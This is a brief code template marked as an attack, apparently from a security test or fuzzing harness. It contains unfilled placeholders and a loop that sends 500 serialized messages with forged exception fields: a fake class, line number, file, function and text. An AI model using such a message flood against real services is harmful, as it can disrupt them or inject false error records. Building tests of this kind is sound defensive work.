#{weigh_wrong}
# <attack>
#{forge}
greet()
for _ in range(500):
    send(wire.dump(["x", "kx" + "9qclass", ["Exception"], 99999, "kx" + "9qfile", "kx" + "9qfunction", "kx" + "9qtext"]))
wait()
# </attack>
